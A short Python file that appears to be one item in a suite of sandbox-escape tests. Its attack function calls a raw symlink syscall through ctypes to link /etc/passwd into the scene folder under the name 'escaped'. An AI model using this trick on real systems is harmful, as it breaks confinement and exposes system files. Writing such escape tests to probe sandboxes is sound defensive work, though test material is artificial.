"""Class: files. Source: own find. Escape: a link is made."""

import ctypes

libc = ctypes.CDLL(None, use_errno=True)


def attack(model, tokenizer, scene):
    libc.syscall(266, b"/etc/passwd", -100, scene["folder"].encode() + b"/escaped")
